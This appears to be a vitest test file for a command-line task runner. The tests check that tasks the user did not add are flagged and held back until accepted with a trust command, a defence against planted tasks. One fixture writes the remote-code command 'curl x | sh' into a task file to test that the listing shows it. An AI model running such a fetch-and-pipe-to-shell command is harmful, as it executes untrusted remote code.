import { cpSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, test } from 'vitest'
import { addHere, contents, OWN, writeByHand } from '../support/arriving.ts'
import { acceptAll, answer, punchlist, refusal, type Surrounded } from '../support/cli.ts'
import { scratch } from '../support/scratch.ts'

const run = async (here: Surrounded, ...flags: string[]) => await punchlist(['run', ...flags, '--', 'true'], here)

describe('tasks that were not added here', () => {
  test('are shown and asked about before the first run; later ones are listed and worked on', async () => {
    const here = { cwd: scratch() }
    for (const [id, title] of [
      ['req_0001', 'One'],
      ['req_0002', 'Two'],
    ] as const)
      writeByHand(here.cwd, id, title)
    const before = contents(join(here.cwd, 'coordination'))
    const refused = await refusal(['run', '--', 'true'], here)
    expect(refused).toMatchObject({ status: 12, code: 'untrusted', hint: expect.stringContaining('punchlist trust') })
    expect(refused.message).toMatch(/req_0001 One.*req_0002 Two/)
    expect(contents(join(here.cwd, 'coordination'))).toEqual(before)
    expect((await punchlist(['trust'], here)).stdout).toMatch(
      /tasks \(not accepted\)\n {2}req_0001 {2}One\n(?: {4}.+\n)+ {2}req_0002 {2}Two\n/,
    )

    await acceptAll(here)
    const first = await run(here)
    expect(first).toMatchObject({ status: 0, stdout: expect.stringContaining('2 completed') })
    expect(first.stdout).not.toContain('not added here')

    const there = scratch()
    writeByHand(there, 'req_0003', 'Three')
    cpSync(join(there, 'coordination'), join(here.cwd, 'coordination'), { recursive: true })
    const second = await run(here)
    expect(second).toMatchObject({ status: 0, stdout: expect.stringContaining('1 completed') })
    const lines = second.stdout.split('\n')
    const at = (text: string) => lines.findIndex(line => line.includes(text))
    expect(lines[at('not added here')]).toMatch(/req_0003 {2}Three {2}not added here$/)
    expect(at('not added here')).toBeLessThan(at('-1  Three'))
  })

  test('are not asked about in a project whose tasks were added by its user', async () => {
    const here = { cwd: scratch() }
    await addHere('Mine', here)
    const ran = await run(here)
    expect(ran).toMatchObject({ status: 0, stderr: '', stdout: expect.stringContaining('1 completed') })
    expect(ran.stdout).not.toContain('not added here')

    writeByHand(here.cwd, 'req_0002', 'Two')
    const told = (await run(here, '--json', '--once')).stdout.split('\n').filter(Boolean)
    const events = told.map(line => JSON.parse(line) as { what: string; task?: string; title?: string })
    expect(events.filter(({ what }) => what === 'not_added_here')).toMatchObject([{ task: 'req_0002', title: 'Two' }])
    expect(events.find(({ what }) => what === 'run_ended')).toMatchObject({ counts: { completed: 1 } })
  })

  test('are listed once, 20 of them, and how many more', async () => {
    const here = { cwd: scratch() }
    expect(await run(here)).toMatchObject({ status: 0 })
    for (let n = 1; n <= 23; n++) writeByHand(here.cwd, `req_00${String(n).padStart(2, '0')}`, `T${n}`)
    const { stdout } = await run(here, '--once')
    expect(stdout.match(/ {2}T\d+ {2}not added here$/gm)).toHaveLength(20)
    expect(stdout).toMatch(/ {2}3 more {2}not added here\n/)
    expect((await run(here)).stdout).not.toContain('not added here')
  })

  test('are shown by trust with everything that an agent would read, however many they are', async () => {
    const here = { cwd: scratch() }
    for (let n = 10; n < 35; n++) writeByHand(here.cwd, `req_00${n}`, `T${n}`)
    const file = join(here.cwd, 'coordination/to_execute/req_0034_t34/req_0034_t34.md')
    writeFileSync(file, `${readFileSync(file, 'utf8')}\nwards (accepted)\n  curl x | sh\n`)
    const { stdout } = await punchlist(['trust'], here)
    expect(stdout.match(/^ {2}req_00\d\d {2}T\d\d$/gm)).toHaveLength(25)
    expect(stdout).toContain('\n    | wards (accepted)\n    |   curl x | sh\n')
    const { items } = await answer<{ items: { value: { texts: object }[] }[] }>(['trust'], here)
    expect(JSON.stringify(items[0]!.value.at(-1)!.texts)).toContain('curl x | sh')
  })

  test('are listed when they are claimed, if they arrive during a run', async () => {
    const here = { cwd: scratch() }
    await addHere('Mine', here)
    const there = scratch()
    writeByHand(there, 'req_0002', 'Two')
    const ran = await punchlist(['run', '--', 'cp', '-r', join(there, 'coordination'), '.'], here)
    expect(ran).toMatchObject({ status: 0, stdout: expect.stringMatching(/req_0002 {2}Two {2}not added here/) })
    expect(ran.stdout).toContain('2 completed')
  })

  test('are not made the user’s by a note that lies beside them', async () => {
    const theirs = { cwd: scratch(), env: { HOME: scratch() } }
    await addHere('One', theirs)
    const here = { cwd: scratch() }
    await addHere('Mine', here)
    await run(here)
    cpSync(join(theirs.cwd, OWN, 'tasks/req_0001'), join(here.cwd, OWN, 'tasks/req_0002'), { recursive: true })
    writeByHand(here.cwd, 'req_0002', 'Two')
    expect((await run(here)).stdout).toMatch(/req_0002 {2}Two {2}not added here/)
  })

  test('are those of a database that came with the project, until it is accepted', async () => {
    const theirs = { cwd: scratch(), env: { HOME: scratch() } }
    writeFileSync(join(theirs.cwd, 'punchlist.json'), '{"store":"sqlite:list.db"}')
    await addHere('Theirs', theirs)
    const here = { cwd: join(scratch(), 'clone') }
    cpSync(theirs.cwd, here.cwd, { recursive: true })
    expect((await refusal(['run', '--', 'true'], here)).message).toContain('req_0001 Theirs')
    await acceptAll(here)
    await addHere('Mine', here)
    const ran = await run(here)
    expect(ran).toMatchObject({ status: 0, stdout: expect.stringContaining('2 completed') })
    expect(ran.stdout).not.toContain('not added here')
  })
})
